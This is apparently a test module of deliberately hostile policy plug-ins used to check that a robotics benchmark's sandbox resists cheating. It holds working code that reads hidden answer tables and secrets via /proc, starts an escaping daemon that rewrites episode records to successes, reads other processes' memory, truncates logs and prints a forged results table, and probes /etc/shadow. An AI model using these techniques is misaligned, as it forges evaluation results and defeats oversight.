"""Hostile policy files: the five attacks of issue 34, as a leaderboard participant would
write them (``--policy evaluation.hostile:NAME``).

Each holds the arms still (it never grasps) and says in its ``text`` what its attack found,
so the run's records show it. The paths an attacker would look for are handed over in
``HOSTILE_TABLES``, ``HOSTILE_RECORDS`` and ``HOSTILE_SECRET`` (as if it had guessed
them); ``HOSTILE_MARK`` names the daemons :func:`forger` starts, so a test can look for
them on the host afterwards.

* :func:`key_reader` (attack 1): finds rsb's process by its command line (``--tables``,
  ``rsb_mj``) and reads the private rows and the secret;
* :func:`forger` (attack 2): starts a double-forked ``setsid`` daemon that outlives the run
  and rewrites ``episodes.jsonl`` to successes;
* :func:`memory_reader` (attack 3): reads the memory of every other process in sight;
* :func:`outcome_reader` (attack 4): reads the run's own records (targets, outcomes);
* :func:`raiser` and :func:`hanger` (attack 5): fail on purpose (an exception; no answer);

and those of issue 45:

* :func:`log_reader`: reopens ``/proc/self/fd/1`` and ``/proc/self/fd/2`` for reading (rsb's
  log when they were rsb's descriptors: earlier episodes' ``xG yT`` counts), prints a forged
  results table, and reopens both with ``O_TRUNC`` to rewrite the log;
* :func:`inspector`: what the sandbox shows: its user, ``/etc/shadow``, its environment and
  the first process's (bwrap's), bwrap's command line (the paths it binds and hides), its
  process and memory limits.
"""

from __future__ import annotations

import json
import os
import re
import resource
import subprocess
import sys
import time
from typing import Any

import numpy as np

#: The daemon of :func:`forger`: for 30 s, rewrite the records to successes.
DAEMON = """
import json, sys, time
path = sys.argv[1]
end = time.time() + 30
while time.time() < end:
    try:
        rows = [json.loads(line) for line in open(path)]
        with open(path, "w") as fh:
            for row in rows:
                row.update(success=True, correct_choice=True, termination="success")
                fh.write(json.dumps(row) + "\\n")
    except OSError:
        pass
    time.sleep(0.05)
"""


def _others() -> list[tuple[int, str]]:
    """(pid, command line) of every process in sight but this one and its sandbox's."""
    out = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                cmd = fh.read().replace(b"\0", b" ").decode(errors="replace").strip()
        except OSError:
            continue
        if cmd.startswith("bwrap") or "child_server" in cmd or not cmd:
            continue
        out.append((int(entry), cmd))
    return out


def _read(path: str | None) -> str:
    """What reading ``path`` (a file, or every file of a folder) gave: ``read N bytes`` or
    the error."""
    if not path:
        return "no path"
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            total = 0
            for name in names:
                with open(os.path.join(path, name), "rb") as fh:
                    total += len(fh.read())
            return f"read {total} bytes of {len(names)} files"
        with open(path, "rb") as fh:
            return f"read {len(fh.read())} bytes"
    except OSError as exc:
        return f"refused ({type(exc).__name__})"


class Still:
    """Holds the arms where they are; ``text`` is what the attack found."""

    cameras = ()
    found = ""

    def reset(self, env: Any, obs: dict[str, Any], info: dict[str, Any]) -> None:
        self.hold = np.asarray(obs["state"], dtype=np.float64)
        self.attack()

    def attack(self) -> None:
        """The attack, run at every reset."""

    def act(self, obs: dict[str, Any]) -> np.ndarray:
        return self.hold

    @property
    def text(self) -> str:
        return self.found


class KeyReader(Still):
    def attack(self) -> None:
        tables = os.environ.get("HOSTILE_TABLES")
        for _, cmd in _others():  # rsb's command line names the folder
            if "--tables" in cmd:
                tables = cmd.split("--tables", 1)[1].split()[0]
        self.found = (
            f"rsb seen: {sum('rsb_mj' in c or 'pytest' in c for _, c in _others())}; "
            f"tables: {_read(tables)}; secret: {_read(os.environ.get('HOSTILE_SECRET'))}"
        )


class Forger(Still):
    started = False

    def attack(self) -> None:
        if not Forger.started:
            Forger.started = True
            if os.fork() == 0:  # double fork, a session of its own: no group kill reaches it
                os.setsid()
                subprocess.Popen(
                    [sys.executable, "-c", DAEMON, os.environ["HOSTILE_RECORDS"],
                     os.environ["HOSTILE_MARK"]],
                    start_new_session=True,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                )  # fmt: skip
                os._exit(0)
            os.wait()
        mark = os.environ["HOSTILE_MARK"]
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(mark in c for _, c in _others()):
            time.sleep(0.05)
        running = any(mark in c for _, c in _others())  # its own daemon, in its own sandbox
        self.found = (
            f"daemon running: {running}; records: {_read(os.environ.get('HOSTILE_RECORDS'))}"
        )


class MemoryReader(Still):
    def attack(self) -> None:
        readable = []
        for pid, _ in _others():
            try:
                with open(f"/proc/{pid}/maps") as fh:
                    first = next(line for line in fh if line.split()[1].startswith("r"))
                with open(f"/proc/{pid}/mem", "rb") as mem:
                    mem.seek(int(first.split("-")[0], 16))
                    mem.read(16)
                readable.append(pid)
            except (OSError, StopIteration):
                continue
        self.found = f"processes in sight: {len(_others())}; memory read: {len(readable)}"


class OutcomeReader(Still):
    def attack(self) -> None:
        path, outcomes = os.environ.get("HOSTILE_RECORDS", ""), []
        try:
            with open(path) as fh:
                outcomes = [json.loads(line).get("target") for line in fh]
        except OSError as exc:
            self.found = f"records: refused ({type(exc).__name__})"
            return
        self.found = f"records: {len(outcomes)} targets"


class Raiser(Still):
    def act(self, obs: dict[str, Any]) -> np.ndarray:
        raise RuntimeError("about to fail: excused?")


class Hanger(Still):
    def act(self, obs: dict[str, Any]) -> np.ndarray:
        time.sleep(60)
        return self.hold


#: A progress line's outcome counts (``rsb eval: 3/8 episodes ...; p/s: 2G 1T of 3``).
OUTCOMES = re.compile(rb"\d+G \d+T of \d+")
#: What :class:`LogReader` prints into whatever its stdout is: a forged results table.
FORGED = "policy  suite  n  TSR\nevaluation.hostile:log_reader  RSB-Math-4  4  100.0"


class LogReader(Still):
    def attack(self) -> None:
        read, counts, truncated = 0, 0, []
        for fd in (1, 2):
            try:
                reader = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
            except OSError as exc:
                truncated.append(f"fd {fd} read: {type(exc).__name__}")
                continue
            try:
                data = os.read(reader, 1 << 20)
            except OSError:
                data = b""  # a pipe with nothing in it
            finally:
                os.close(reader)
            read += len(data)
            counts += len(OUTCOMES.findall(data))
        print(FORGED, flush=True)
        for fd in (1, 2):
            try:
                os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_TRUNC))
                truncated.append(f"fd {fd} opened O_TRUNC")
            except OSError as exc:
                truncated.append(f"fd {fd} O_TRUNC: {type(exc).__name__}")
        self.found = f"outcome counts: {counts}; {'; '.join(truncated)}"


class Inspector(Still):
    def attack(self) -> None:
        try:
            with open("/etc/shadow", "rb") as fh:
                shadow = f"read {len(fh.read())} bytes"
        except OSError as exc:
            shadow = f"refused ({type(exc).__name__})"
        try:
            with open("/proc/1/environ", "rb") as fh:
                first_env = sorted(e.split(b"=")[0].decode() for e in fh.read().split(b"\0") if e)
        except OSError as exc:
            first_env = [f"refused ({type(exc).__name__})"]
        with open("/proc/1/cmdline", "rb") as fh:
            cmdline = fh.read().decode(errors="replace")
        hidden = [os.environ.get(k, "?") for k in ("HOSTILE_TABLES", "HOSTILE_SECRET")]
        named = sum(path in cmdline for path in hidden)
        nproc = resource.getrlimit(resource.RLIMIT_NPROC)[0]
        memory = resource.getrlimit(resource.RLIMIT_AS)[0]
        self.found = json.dumps({
            "uid": [os.getuid(), os.geteuid(), os.getgid(), os.getgroups()],
            "shadow": shadow,
            "env": sorted(os.environ),
            "first process env": first_env,
            "hidden paths in bwrap's command line": named,
            "processes": nproc,
            "memory": memory,
        }, sort_keys=True)  # fmt: skip


def log_reader() -> LogReader:
    return LogReader()


def inspector() -> Inspector:
    return Inspector()


def key_reader() -> KeyReader:
    return KeyReader()


def forger() -> Forger:
    return Forger()


def memory_reader() -> MemoryReader:
    return MemoryReader()


def outcome_reader() -> OutcomeReader:
    return OutcomeReader()


def raiser() -> Raiser:
    return Raiser()


def hanger() -> Hanger:
    return Hanger()
